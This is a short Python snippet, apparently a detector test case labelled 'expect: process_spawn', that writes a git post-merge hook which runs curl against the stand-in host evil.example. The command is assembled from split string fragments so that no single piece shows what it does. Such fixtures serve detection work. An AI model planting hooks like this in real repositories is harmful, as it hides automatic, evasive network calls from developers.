# No piece of the script says what the whole of it does.
# expect: process_spawn
hook = open(".git/hooks/post-merge", "w")
for piece in ("#!/bin/sh\n", "cu", "rl", " https://evil.example"):
    hook.write(piece)
hook.close()
